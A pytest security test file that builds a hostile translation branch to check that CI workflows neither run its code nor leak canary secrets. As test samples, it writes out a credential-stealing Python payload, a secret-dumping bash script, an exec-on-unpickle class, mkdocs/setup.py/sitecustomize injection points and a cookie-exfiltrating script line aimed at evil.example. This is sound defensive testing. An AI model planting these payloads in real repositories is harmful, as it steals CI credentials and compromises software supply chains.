"""The workflows' own steps on a hostile translation branch (issue 18, items 1 and 4).

A bare ``origin`` holds main (this repository's files, DeepL pointed at the local fake) and two
translation branches: ``l10n/lt``, where a translator fixed a word (the control: the jobs must
still do their work there), and ``l10n/ro``, where the "translator" added an ``mkdocs.yml``
``hooks:`` module, changed ``src/helpglot``, ``setup.py``, ``docs/`` and every script, put a
``helpglot/`` package at the top of the tree, committed a pickle into ``.helpglot/`` and a
``<script>`` into a translation. Every piece of code tries to read the canary
``DEEPL_AUTH_KEY`` and the canary git token and write them to a marker folder, into the tree
(to be committed, published or uploaded), to its output, and to a pushed ref.

tests/workflow_runner.py runs the jobs that hold a secret or a write permission and touch
translation branches: translate (lt and ro), review (lt and ro) and deploy's previews.
"""

from __future__ import annotations

import base64
import json
import os
import pickle
import re
import shutil
import subprocess
import urllib.parse
from pathlib import Path

import pytest
import yaml

from conftest import ROOT
from fake_deepl import FakeDeepL
from workflow_runner import Runner

DEEPL = "canary-deepl-4f1c9e7a-0b2d-4c55-9d1e-8a7b6c5d4e3f:fx"
TOKEN = "ghs_canaryTOKEN9f8e7d6c5b4a39281706f5e4d3c2b1a0"
ARTICLE = "getting-started/create-your-account.md"
PAYLOAD = """
import json as _j, os as _o, pathlib as _p, subprocess as _s
def _steal(tag):
    d = _p.Path({markers!r})
    d.mkdir(parents=True, exist_ok=True)
    loot = {{"tag": tag, "cwd": _o.getcwd(), "env": dict(_o.environ)}}
    for cfg in (".git/config", "../work/.git/config", "../.git/config"):
        try:
            loot[cfg] = _p.Path(cfg).read_text()
        except OSError:
            pass
    text = _j.dumps(loot)
    (d / f"ran-{{tag}}-{{_o.getpid()}}").write_text(text)
    print("LEAK", _o.environ.get("DEEPL_AUTH_KEY"), _o.environ.get("PUSH_TOKEN"), _o.environ.get("GH_TOKEN"))
    for out in ("translations/ro/leak.md", "site/leak.txt", "previews/leak.txt", "../previews/leak.txt"):
        try:
            _p.Path(out).parent.mkdir(parents=True, exist_ok=True)
            _p.Path(out).write_text(text)
        except OSError:
            pass
    _s.run(["git", "push", "-q", "origin", "HEAD:refs/heads/leak-" + tag], capture_output=True)
_steal({tag!r})
"""
SCRIPT = """#!/usr/bin/env bash
mkdir -p {markers}
env > "{markers}/ran-script-$(basename "$0")-$$"
echo "LEAK $DEEPL_AUTH_KEY $PUSH_TOKEN $GH_TOKEN"
git push -q origin HEAD:refs/heads/leak-script 2>/dev/null || true
"""


def git(cwd: Path, *args: str) -> str:
    return subprocess.run(["git", "-c", "user.name=T", "-c", "user.email=t@x", *args], cwd=cwd, check=True,
                          capture_output=True, text=True,
                          env={**os.environ, "GIT_CONFIG_GLOBAL": os.devnull, "GIT_CONFIG_NOSYSTEM": "1"}).stdout


class Exec:
    """Unpickling this runs the payload."""

    def __init__(self, code: str) -> None:
        self.code = code

    def __reduce__(self) -> tuple:
        return (exec, (self.code,))


class Evil:
    """Builds the hostile branch's files: each piece of code runs the same payload under its own tag."""

    def __init__(self, markers: Path) -> None:
        self.markers = markers

    def py(self, tag: str) -> str:
        return PAYLOAD.format(markers=str(self.markers), tag=tag)

    def apply(self, tree: Path) -> None:
        config = tree / "mkdocs.yml"
        config.write_text(config.read_text(encoding="utf-8") + "\nhooks:\n  - evil_hook.py\n", encoding="utf-8")
        (tree / "evil_hook.py").write_text(self.py("mkdocs-hook"), encoding="utf-8")
        init = tree / "src" / "helpglot" / "__init__.py"
        init.write_text(init.read_text(encoding="utf-8") + self.py("src-helpglot"), encoding="utf-8")
        (tree / "setup.py").write_text(self.py("setup-py") + "\nfrom setuptools import setup\nsetup()\n",
                                       encoding="utf-8")
        for rel in ("helpglot/__init__.py", "helpglot/cli/__init__.py", "helpglot/cli/__main__.py"):
            (tree / rel).parent.mkdir(parents=True, exist_ok=True)
            (tree / rel).write_text(self.py(f"cwd-{rel.replace('/', '-')}"), encoding="utf-8")
        (tree / "sitecustomize.py").write_text(self.py("sitecustomize"), encoding="utf-8")
        for script in (tree / "scripts").iterdir():
            script.write_text(SCRIPT.format(markers=self.markers), encoding="utf-8")
        index = tree / "docs" / "index.md"
        index.write_text(index.read_text(encoding="utf-8") + "\n\nBRANCH-DOCS-MARKER\n", encoding="utf-8")
        (tree / ".helpglot").mkdir(exist_ok=True)
        (tree / ".helpglot" / "status-cache.pickle").write_bytes(pickle.dumps(Exec(self.py("pickle"))))
        ro = tree / "translations" / "ro" / "index.md"
        ro.write_text(ro.read_text(encoding="utf-8") + "\n\n<script>fetch('https://evil.example/?c='"
                      "+document.cookie)</script>\n", encoding="utf-8")


def seed(tmp: Path, fake_url: str) -> Path:
    """main: this repository's tracked files as they are now, DeepL pointed at the fake."""
    tree = tmp / "seed"
    for rel in git(ROOT, "ls-files", "-z").split("\0"):
        src = ROOT / rel
        if rel and src.is_file() and not rel.startswith("tests/"):
            (tree / rel).parent.mkdir(parents=True, exist_ok=True)
            shutil.copy2(src, tree / rel)
    config = tree / "mkdocs.yml"
    text = config.read_text(encoding="utf-8")
    config.write_text(text.replace("      defaults:\n", f"      engines:\n        deepl: {{server_url: '{fake_url}'}}\n"
                                   "      defaults:\n", 1), encoding="utf-8")
    git(tree, "init", "-q", "-b", "main")
    git(tree, "add", "-A")
    git(tree, "commit", "-qm", "help center")
    origin = tmp / "origin.git"
    git(tmp, "clone", "-q", "--bare", str(tree), str(origin))
    git(origin, "config", "receive.denyNonFastForwards", "true")
    return origin


@pytest.fixture(scope="module")
def ran(tmp_path_factory: pytest.TempPathFactory):
    tmp = tmp_path_factory.mktemp("workflow-run")
    markers = tmp / "markers"
    with FakeDeepL(auth_key=DEEPL) as fake:
        origin = seed(tmp, fake.url)
        person = tmp / "translator"
        git(tmp, "clone", "-q", str(origin), str(person))
        # the control: a translator's one-word fix on l10n/lt
        git(person, "checkout", "-q", "-b", "l10n/lt")
        lt = person / "translations" / "lt" / "index.md"
        lt.write_text(lt.read_text(encoding="utf-8") + "\n", encoding="utf-8")
        git(person, "commit", "-qam", "lt: trailing line")
        git(person, "push", "-q", "origin", "l10n/lt")
        # the attack
        git(person, "checkout", "-q", "-b", "l10n/ro", "origin/main")
        Evil(markers).apply(person)
        git(person, "add", "-A", "-f")
        git(person, "commit", "-qm", "ro: small fixes")
        git(person, "push", "-q", "origin", "l10n/ro")
        hostile_ro = git(origin, "rev-parse", "refs/heads/l10n/ro").strip()
        # a writer changes the English on main: what translate.yml runs for
        git(person, "checkout", "-q", "main")
        source = person / "docs" / ARTICLE
        source.write_text(source.read_text(encoding="utf-8").replace("about two minutes", "about three minutes", 1),
                          encoding="utf-8")
        git(person, "commit", "-qam", "three minutes")
        git(person, "push", "-q", "origin", "main")
        sha = git(origin, "rev-parse", "refs/heads/main").strip()

        runner = Runner(root=tmp / "runner", origin=origin, workflows=ROOT / ".github" / "workflows",
                        secrets={"DEEPL_AUTH_KEY": DEEPL, "HELPGLOT_APP_KEY": "unused"}, token=TOKEN, sha=sha,
                        env={"NO_MKDOCS_2_WARNING": "1"})
        status = {}
        for lang in ("lt", "ro"):
            runner.event = {}
            status[f"translate-{lang}"] = runner.run_job("translate.yml", "translate", {"lang": lang})
        translated = len(fake.calls("translate"))
        # the translator fixes the drafts of l10n/lt in the pull request (the fake upper-cases
        # everything, which the glossary check refuses for do-not-translate names)
        git(person, "fetch", "-q", "origin")
        git(person, "checkout", "-q", "-B", "l10n/lt", "origin/l10n/lt")
        for rel in git(person, "diff", "--name-only", "origin/main...origin/l10n/lt").split():
            path = person / rel
            text = path.read_text(encoding="utf-8")
            for name in ("Tallybird", "Stripe", "Slack", "PayPal", "Google Workspace"):
                text = re.sub(rf"(?<!\w){name.upper()}(?!\w)", name, text)
            path.write_text(text, encoding="utf-8")
        git(person, "commit", "-qam", "lt: names as they are")
        git(person, "push", "-q", "origin", "l10n/lt")
        for lang, who in (("lt", "ruta-kazlauskiene"), ("ro", "andrei-popescu")):
            head = git(origin, "rev-parse", f"refs/heads/l10n/{lang}").strip()  # what the reviewer saw
            status[f"review-{lang}"] = runner.approve_in_browser(lang, who, head, run=f"-{lang}")
        runner.event = {}
        jobs = yaml.safe_load((runner.workflows / "deploy.yml").read_text(encoding="utf-8"))["jobs"]
        status["previews"] = runner.run_job("deploy.yml", "previews") if "previews" in jobs else "no such job"
    yield {"runner": runner, "origin": origin, "markers": markers, "status": status, "hostile_ro": hostile_ro,
           "translated": translated, "sha": sha}


def needles() -> dict[str, bytes]:
    basic = base64.b64encode(f"x-access-token:{TOKEN}".encode())
    return {"deepl key": DEEPL.encode(), "deepl key (url-encoded)": urllib.parse.quote(DEEPL).encode(),
            "token": TOKEN.encode(), "token (basic auth)": basic, "token (base64)": base64.b64encode(TOKEN.encode())}


def test_nothing_from_the_hostile_branch_runs(ran) -> None:
    markers: Path = ran["markers"]
    found = sorted(p.name for p in markers.iterdir()) if markers.exists() else []
    assert found == [], f"branch code ran in a privileged job: {found}"
    outputs = "\n".join(step.output for step in ran["runner"].log)
    assert "LEAK" not in outputs


def test_no_canary_in_any_output_file_or_pushed_ref(ran) -> None:
    runner: Runner = ran["runner"]
    hits = []
    for step in runner.log:
        hits += [f"output of {step.name}: {k}" for k, n in needles().items() if n.decode() in step.output]
    for path in runner.root.rglob("*"):
        if path.is_file() and not path.is_symlink():
            data = path.read_bytes()
            hits += [f"{path.relative_to(runner.root)}: {k}" for k, n in needles().items() if n in data]
    objects = subprocess.run(["git", "cat-file", "--batch-all-objects", "--batch"], cwd=ran["origin"],
                             capture_output=True, check=True).stdout
    hits += [f"a git object in origin: {k}" for k, n in needles().items() if n in objects]
    refs = git(ran["origin"], "for-each-ref", "--format=%(refname)").split()
    assert not [r for r in refs if "leak" in r], refs
    assert hits == []


def test_the_hostile_branch_is_refused_with_the_paths_named_and_left_as_it_was(ran) -> None:
    log = {step.name: step for step in ran["runner"].log}
    assert ran["status"]["translate-ro"] == "failure" and ran["status"]["review-ro"] == "failure"
    sync = log["translate-translate-ro: Update l10n/ro (merge main, draft, push; never forced)"]
    assert sync.outcome == "failure"
    for path in (".helpglot/status-cache.pickle", "docs/index.md", "evil_hook.py", "helpglot/cli/__main__.py",
                 "mkdocs.yml", "scripts/l10n-pr"):
        assert path in sync.output
    assert re.search(r"scripts/\S+ and \d+ more\. A translation branch carries translations only", sync.output)
    assert "l10n/ro: changes files outside translations/ro/ and glossary/" in sync.output
    assert "nothing was merged, drafted or pushed" in sync.output and "Traceback" not in sync.output
    # the pull request hears of the refusal, and nothing of the refused branch is read for it
    told = log["translate-translate-ro: Open or update the pull request and its review comment"]
    assert told.outcome == "success" and "l10n/ro: the " in told.output and "pr-body" not in told.output
    scope = log["review-record-approve-ro: The branch carries translations only"]
    assert scope.outcome == "failure" and "nothing was approved or pushed" in scope.output
    assert git(ran["origin"], "rev-parse", "refs/heads/l10n/ro").strip() == ran["hostile_ro"]


def test_the_same_jobs_do_their_work_on_an_honest_branch(ran) -> None:
    """The control: the steps really ran (the key reached DeepL, the token pushed)."""
    assert ran["status"]["translate-lt"] == "success", ran["runner"].log
    assert ran["status"]["review-lt"] == "success", ran["runner"].log
    assert ran["translated"] > 0  # the fake accepts only the canary key: the sync step had it
    origin = ran["origin"]
    head = git(origin, "rev-parse", "refs/heads/l10n/lt").strip()
    assert git(origin, "merge-base", "--is-ancestor", ran["sha"], head) == ""  # main merged in
    messages = git(origin, "log", "--format=%s", "refs/heads/l10n/lt")
    assert "l10n(lt): machine drafts for review" in messages
    assert "l10n(lt): approved by @ruta-kazlauskiene in a pull-request review" in messages
    calls = [json.loads(p.read_text(encoding="utf-8")) for p in sorted((ran["runner"].root / "gh").glob("*.json"))]
    assert any(c["args"][:2] == ["pr", "create"] for c in calls)


def test_previews_are_mains_tree_with_the_branches_translations_as_data(ran) -> None:
    assert ran["status"]["previews"] == "success"
    art = ran["runner"].root / "artifacts" / "previews"
    built = json.loads((art / "previews.json").read_text(encoding="utf-8"))
    assert built == {"lt": True, "ro": True}
    ro_home = (art / "ro" / "ro" / "index.html").read_text(encoding="utf-8")
    assert "evil.example" not in ro_home  # sanitised like production
    for lang in ("lt", "ro"):
        pages = "".join(p.read_text(encoding="utf-8", errors="replace") for p in (art / lang).rglob("*.html"))
        assert "BRANCH-DOCS-MARKER" not in pages  # the English is main's, never the branch's docs/
    assert not (ran["runner"].root / "published").exists()  # nothing reached Pages
